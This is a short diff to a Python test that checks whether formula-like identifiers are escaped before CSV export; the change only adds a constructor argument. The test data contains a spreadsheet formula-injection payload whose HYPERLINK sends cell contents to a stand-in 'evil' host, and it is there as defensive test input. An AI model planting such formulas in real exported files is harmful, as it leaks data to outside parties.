@@ -437,7 +437,7 @@ def test_identifiers_that_are_formulas_are_written_so_that_no_spreadsheet_runs_t
     job, identities = settle(make_job("structuring"))
     rows = [('=HYPERLINK("http://evil/?"&B2,"open")', 2, 150_000), ("-5", 3, 7)]
     output = Output.probe(tmp_path, me="bank_a", job="test")
-    table, _ = PartyResult("bank_a", job, rows, {}).write(output, identities["bank_a"])
+    table, _ = PartyResult("bank_a", job, job.pattern.results, rows, {}).write(output, identities["bank_a"])
     assert table is not None
     lines = list(csv.reader(table.read_text().splitlines()))
     assert lines[1:] == [["'" + rows[0][0], "2", "1500.00"], ["-5", "3", "0.07"]]
